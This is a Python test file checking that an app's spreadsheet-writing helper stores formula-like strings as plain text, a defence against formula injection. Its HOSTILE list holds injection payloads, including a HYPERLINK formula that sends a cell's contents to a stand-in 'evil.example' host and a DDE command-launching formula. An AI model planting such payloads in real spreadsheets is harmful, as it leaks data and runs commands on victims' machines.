"""Text cells of the XLSX files Sigap writes are text, whatever they start with."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from domain.sheets import append_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "#N/A",  # openpyxl would write an error cell
]


def _written(values: list[object]) -> list[tuple[object, str]]:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, values)
    saved = io.BytesIO()
    book.save(saved)
    again = load_workbook(saved).active
    assert again is not None
    return [(cell.value, cell.data_type) for cell in again[1]]


@pytest.mark.parametrize("text", HOSTILE)
def test_strings_that_look_like_formulas_are_written_as_the_text_typed(text: str) -> None:
    assert _written([text]) == [(text, "s")]


def test_a_carriage_return_start_is_text_too() -> None:
    [(value, kind)] = _written(["\r=1+1"])
    assert kind == "s" and str(value).endswith("=1+1")  # XML reads the CR back as a newline


def test_numbers_dates_and_plain_text_are_unchanged() -> None:
    cells = _written([-5, -1.5, 0, "Rapat koordinasi", date(2026, 11, 2), None, "a-b"])
    assert [kind for _, kind in cells] == ["n", "n", "n", "s", "d", "n", "s"]
    assert [value for value, _ in cells][:4] == [-5, -1.5, 0, "Rapat koordinasi"]
